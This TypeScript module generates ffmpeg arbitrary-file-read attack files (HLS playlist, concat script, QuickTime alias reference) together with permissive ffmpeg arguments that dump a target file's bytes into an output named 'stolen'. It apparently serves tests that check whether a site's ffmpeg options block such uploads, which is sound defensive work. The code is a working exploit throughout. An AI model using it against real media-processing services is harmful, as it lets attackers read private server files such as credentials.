import { execFile } from 'node:child_process';
import { chmod, mkdtemp, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';

/**
 * Options that allow everything that the site's own options forbid, like a decoder under an
 * attacker's control.
 */
const WITHOUT_GUARDS = ['-nostdin', '-v', 'error', '-y', '-protocol_whitelist', 'file,concat'];
/** The samples of the output are the bytes of the stolen file. */
const OUTPUT = ['-map', '0:a:0', '-c:a', 'pcm_u8', '-f', 'u8', 'stolen'];
const BYTES_MAX = 4096;

export interface Attack {
  /** The uploaded file. */
  file: string;
  /** The uploaded file and the attacker's files beside it. */
  reads: readonly string[];
  /** Arguments for ffmpeg to write the stolen bytes to the file `stolen`. */
  args: readonly string[];
}

/**
 * Creates three files that make ffmpeg read another file of the machine: an HLS playlist, a concat
 * script, a QuickTime data reference.
 */
export async function attackFiles(
  parent: string,
  target: string,
  ffmpeg: string,
): Promise<Record<'hls' | 'concat' | 'dref', Attack>> {
  const segmentArguments = await segmentOptions(ffmpeg);
  const folder = await mkdtemp(join(parent, 'attack-'));
  await chmod(folder, 0o755);
  const head = join(folder, 'head.wav');
  await writeFile(head, waveHead());
  const write = async (name: string, content: string | Buffer): Promise<string> => {
    const path = join(folder, name);
    await writeFile(path, content);
    return path;
  };
  const playlist = [
    '#EXTM3U',
    '#EXT-X-TARGETDURATION:9',
    '#EXTINF:9,',
    head,
    '#EXTINF:9,',
    target,
    '#EXT-X-ENDLIST',
    '',
  ];
  const hls = await write('hls.mp4', playlist.join('\n'));
  const concat = await write(
    'concat.mp4',
    `ffconcat version 1.0\nfile 'concat:${head}|${target}'\n`,
  );
  const dref = await write('dref.mov', movieOf(target));
  return {
    hls: {
      file: hls,
      reads: [hls, head],
      args: [
        ...WITHOUT_GUARDS,
        '-f',
        'hls',
        '-allowed_extensions',
        'ALL',
        ...segmentArguments,
        '-i',
        `file:${hls}`,
        ...OUTPUT,
      ],
    },
    concat: {
      file: concat,
      reads: [concat, head],
      args: [...WITHOUT_GUARDS, '-f', 'concat', '-safe', '0', '-i', `file:${concat}`, ...OUTPUT],
    },
    dref: {
      file: dref,
      reads: [dref],
      args: [
        ...WITHOUT_GUARDS,
        '-enable_drefs',
        '1',
        '-use_absolute_path',
        '1',
        '-f',
        'mov',
        '-i',
        `file:${dref}`,
        ...OUTPUT,
      ],
    },
  };
}

/** Newer versions of ffmpeg also check the names of segments. */
async function segmentOptions(ffmpeg: string): Promise<string[]> {
  const { stdout } = await promisify(execFile)(ffmpeg, ['-hide_banner', '-h', 'demuxer=hls']);
  const options = { allowed_segment_extensions: 'ALL', extension_picky: '0' };
  return Object.entries(options).flatMap(([name, value]) =>
    stdout.includes(`-${name} `) ? [`-${name}`, value] : [],
  );
}

/** Header of 8-bit sound: each following byte is one sample. */
function waveHead(): Buffer {
  const head = Buffer.alloc(44);
  head.write('RIFF', 0, 'latin1');
  head.writeUInt32LE(BYTES_MAX + 36, 4);
  head.write('WAVEfmt ', 8, 'latin1');
  [16, 0x1_0001, 8000, 8000, 0x8_0001].forEach((value, at) =>
    head.writeUInt32LE(value, 16 + at * 4),
  );
  head.write('data', 36, 'latin1');
  head.writeUInt32LE(BYTES_MAX, 40);
  return head;
}

/** A film whose samples are in another file. */
function movieOf(target: string): Buffer {
  const table = box('stbl', [
    box('stsd', [words(0, 1), soundEntry()]),
    box('stts', [words(0, 1, SAMPLES_MAX, 1)]),
    box('stsc', [words(0, 1, 1, SAMPLES_MAX, 1)]),
    box('stsz', [words(0, 1, SAMPLES_MAX)]),
    box('stco', [words(0, 1, 0)]),
  ]);
  const handler = box('hdlr', [words(0), Buffer.from('mhlrsoun', 'latin1'), Buffer.alloc(13)]);
  const references = box('dref', [words(0, 1), box('alis', [words(0), alias(target)])]);
  const minf = box('minf', [box('smhd', [Buffer.alloc(8)]), box('dinf', [references]), table]);
  const mdia = box('mdia', [box('mdhd', [words(0, 0, 0, 8000, SAMPLES_MAX, 0)]), handler, minf]);
  const track = box('trak', [
    box('tkhd', [words(1, 0, 0, 1, 0, SAMPLES_MAX), Buffer.alloc(60)]),
    mdia,
  ]);
  const header = box('mvhd', [words(0, 0, 0, 8000, SAMPLES_MAX), Buffer.alloc(80)]);
  return Buffer.concat([
    box('ftyp', [Buffer.from('qt  \0\0\0\0qt  ', 'latin1')]),
    box('moov', [header, track]),
  ]);
}
/** Maximum number of samples. A reader stops at the end of a shorter file. */
const SAMPLES_MAX = 1300;

function soundEntry(): Buffer {
  const entry = Buffer.alloc(28);
  entry.writeUInt16BE(1, 6);
  entry.writeUInt16BE(1, 16);
  entry.writeUInt16BE(8, 18);
  entry.writeUInt16BE(8000, 24);
  return box('raw ', [entry]);
}

/** An alias record whose only entry is the absolute path. */
function alias(target: string): Buffer {
  const path = Buffer.from(target, 'latin1');
  const head = Buffer.alloc(150);
  const entry = Buffer.alloc(4);
  entry.writeUInt16BE(2, 0);
  entry.writeUInt16BE(path.length, 2);
  return Buffer.concat([
    head,
    entry,
    path,
    Buffer.alloc(path.length % 2),
    Buffer.from([0xff, 0xff, 0, 0]),
  ]);
}

function words(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 4);
  values.forEach((value, at) => bytes.writeUInt32BE(value, at * 4));
  return bytes;
}

function box(name: string, content: readonly Buffer[]): Buffer {
  const body = Buffer.concat(content);
  return Buffer.concat([words(body.length + 8), Buffer.from(name, 'latin1'), body]);
}
